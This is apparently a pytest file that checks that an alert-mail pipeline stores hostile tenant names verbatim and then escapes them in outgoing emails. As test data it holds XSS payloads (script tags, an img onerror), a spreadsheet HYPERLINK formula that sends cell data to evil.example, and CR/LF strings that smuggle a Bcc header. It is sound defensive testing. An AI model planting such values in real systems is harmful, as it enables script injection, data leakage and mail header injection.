"""Hostile tenant text (issue 9.4): department, job title and display names carrying HTML/JS, markdown, CSV
formula prefixes, CR/LF, very long strings and non-Latin scripts go through the real collector and model
verbatim, and come out of the alert mails escaped, with no header injection."""

from __future__ import annotations

import email
import email.policy
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
from hostile_tenant import HOSTILE_DEPARTMENTS, HOSTILE_DISPLAY, HOSTILE_TITLE, build_hostile_warehouse
from simulated_warehouse import copy_warehouse

from alerts.run import run_alerts
from alerts.workflow.champions import save_champion


class Markup(HTMLParser):
    """The elements and attributes a mail's HTML really contains (text stays text)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for k, v in attrs:
            if k.startswith("on") or (v or "").strip().lower().startswith("javascript:"):
                self.bad.append(f"<{tag} {k}={v}>")
        if tag == "img" and not (dict(attrs).get("src") or "").startswith("cid:"):
            self.bad.append(f"<img src={dict(attrs).get('src')}>")


def markup(html: str) -> Markup:
    m = Markup()
    m.feed(html)
    return m


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return build_hostile_warehouse(tmp_path_factory.mktemp("hostile"))


def rows(cfg, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(cfg.warehouse.path, read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def test_hostile_text_is_stored_verbatim(hostile):
    cfg, _, tenant = hostile
    raw_depts = {r[0] for r in rows(cfg, "select distinct department from raw_users")}
    assert set(HOSTILE_DEPARTMENTS.values()) <= raw_depts  # byte for byte, CR/LF and 2,000 characters included
    titles = {r[0] for r in rows(cfg, "select distinct job_title from raw_users")}
    assert HOSTILE_TITLE in titles
    groups = {r[0] for r in rows(cfg, "select distinct group_name from mart_usage_by_group "
                                      "where dimension = 'department'")}
    for name in ("<script>alert('dept')</script>Marketing", "<img src=x onerror=alert('hr')>",
                 '=HYPERLINK("https://evil.example/?x="&A1,"Legal")', "営業部 — المبيعات — Отдел продаж",
                 "Procurement\r\nBcc: victim@evil.example"):
        assert name in groups, name
    managers = {r[0] for r in rows(cfg, "select distinct group_name from mart_usage_by_group "
                                        "where dimension = 'manager'")}
    assert any(m.startswith(HOSTILE_DISPLAY) for m in managers)
    functions = {r[0] for r in rows(cfg, "select distinct group_name from mart_usage_by_group "
                                         "where dimension = 'job_function'")}
    # job functions are normalised titles (case, punctuation), but the markup survives into the mart
    assert any(f.startswith("<svg Onload=") for f in functions), sorted(functions)[:20]


def test_alert_mails_escape_hostile_names_and_carry_no_injected_header(hostile, tmp_path: Path):
    base, _, _ = hostile
    outbox = tmp_path / "outbox"
    cfg = copy_warehouse(base, tmp_path / "wh", extra_config=(
        f'[alerts]\nfrom_address = "copilot@contoso.example"\ndigest_address = "lead@contoso.example"\n'
        f'outbox_dir = "{outbox.as_posix()}"\ndimensions = ["department", "manager", "job_function"]\n'))
    flagged = {r[0] for r in rows(cfg, "select group_name from mart_stagnation where flagged and dimension = "
                                       "'department' and week_start = (select max(week_start) from mart_stagnation)")}
    hostile_flagged = flagged & set(HOSTILE_DEPARTMENTS.values())
    assert hostile_flagged, f"no hostile department flagged: {flagged}"
    for i, group in enumerate(sorted(hostile_flagged)):
        save_champion(cfg, "department", group, f"<b>Champ</b>\r\nBcc: x@evil.example {i}", f"champ{i}@contoso.example")
    result = run_alerts(cfg, dry_run=True)
    assert result.outbox and {d.status for d in result.deliveries} == {"written"}, result.deliveries
    champion_mails = 0
    for path in result.outbox:
        msg = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert msg["Bcc"] is None and msg["Cc"] is None, path.name
        # a hostile champion name stays a quoted display name: one recipient, ours
        assert [a.addr_spec for a in msg["To"].addresses] == [path.stem.split("-", 1)[1]], str(msg["To"])
        for header in ("Subject", "To", "From"):
            assert "\r" not in str(msg[header]) and "\n" not in str(msg[header])
        html = msg.get_body(("html",)).get_content()
        text = msg.get_body(("plain",)).get_content()
        found = markup(html)
        assert not found.bad and not found.tags & {"script", "svg", "iframe"}, (path.name, found.bad)
        assert "<b>Champ</b>" not in html
        if msg["To"].addresses[0].username.startswith("champ"):
            champion_mails += 1
            assert any(g.replace("\r\n", " ")[:30] in text.replace("\r\n", " ") or g[:20] in text
                       for g in hostile_flagged), text[:500]
            assert "&lt;" in html or "&#" in html or "=HYPERLINK" in html
    assert champion_mails == len(hostile_flagged)
